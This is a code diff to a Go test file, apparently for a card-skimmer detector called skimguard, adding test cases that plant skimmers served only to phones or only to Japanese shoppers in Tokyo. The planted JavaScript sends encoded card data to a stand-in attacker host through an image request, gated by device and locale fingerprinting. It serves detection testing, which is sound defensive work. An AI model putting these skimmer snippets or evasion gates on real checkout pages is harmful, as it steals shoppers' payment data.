@@ -37,6 +37,10 @@ type technique struct {
 	// test asks whether skimguard caught it. Its zero value means fireCard
 	// when want holds data.exfiltration; any other technique must say.
 	fires fire
+
+	// locale and timezone are the shopper's, for kits that serve one
+	// country's shoppers; empty for en-US in the machine's zone.
+	locale, timezone string
 }
 
 // fire is what proves that a planted skimmer ran for the shopper.
@@ -321,13 +325,16 @@ func techniques() []*technique {
 			want:   []skimguard.Kind{skimguard.KindDataExfiltration},
 		},
 		{
-			name: "mobile-only", threat: "served only to mobile browsers (several profiles)",
+			name: "mobile-only", threat: "served only to phones, checked on the server and in the page (RiskIQ MobileInter 2021)",
 			base: direct, profile: skimguard.ProfileMobile,
-			plant: func(p *page) {
-				p.Body = script(`if (/Android|iPhone/.test(navigator.userAgent) && navigator.maxTouchPoints > 0) {` +
-					skim(`new Image().src = '`+p.EvilBase+`/m.gif?d=' + btoa(s); sent = true;`) + `}`)
-			},
-			want: []skimguard.Kind{skimguard.KindDataExfiltration},
+			plant: phonesOnly,
+			want:  []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
+		},
+		{
+			name: "japan-only", threat: "served only to Japanese-speaking shoppers in Japan: Accept-Language on the server, language and time zone in the page (geofenced kits)",
+			base: direct, locale: "ja-JP", timezone: "Asia/Tokyo",
+			plant: japanOnly,
+			want:  []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
 		},
 		{
 			name: "delayed-loader", threat: "waits 5–10 s before loading anything",
@@ -464,6 +471,33 @@ if ((new RegExp('onepagecheckout|onestepcheckout|onepage')).test(window.location
 			fires:    fireNothing,
 		},
 	}
+}
+
+// phonesOnly plants a skimmer that the shop's server sends only to a
+// phone's Chrome (Android user agent, Sec-CH-UA-Mobile ?1) and that runs
+// only where every sign agrees: touch, a coarse pointer that cannot hover,
+// a phone's screen and navigator.userAgentData.mobile.
+func phonesOnly(p *page) {
+	if p.Header == nil || p.Header.Get("Sec-CH-UA-Mobile") != "?1" || !strings.Contains(p.Header.Get("User-Agent"), "Android") {
+		return
+	}
+	p.Body = script(`if (/Android/.test(navigator.userAgent) && /Mobile/.test(navigator.userAgent) && 'ontouchstart' in window && navigator.maxTouchPoints > 0 &&
+    matchMedia('(pointer: coarse)').matches && !matchMedia('(pointer: fine)').matches && matchMedia('(hover: none)').matches &&
+    navigator.userAgentData && navigator.userAgentData.mobile === true && screen.width < 600 && devicePixelRatio >= 2) {` +
+		skim(`new Image().src = '`+p.EvilBase+`/m.gif?d=' + btoa(s); sent = true;`) + `}`)
+}
+
+// japanOnly plants a skimmer that the shop's server sends only to shoppers
+// whose browser asks for Japanese first, and that runs only when the page
+// agrees: Japanese in navigator.language and Intl, the Tokyo time zone and
+// its offset.
+func japanOnly(p *page) {
+	if p.Header == nil || !strings.HasPrefix(p.Header.Get("Accept-Language"), "ja") {
+		return
+	}
+	p.Body = script(`if (/^ja\b/.test(navigator.language) && /^ja\b/.test(Intl.DateTimeFormat().resolvedOptions().locale) &&
+    Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Tokyo' && new Date().getTimezoneOffset() === -540) {` +
+		skim(`new Image().src = '`+p.EvilBase+`/j.gif?d=' + btoa(s); sent = true;`) + `}`)
 }
 
 // corpusTechniques are real skimmers from the build machines' corpus, hosts
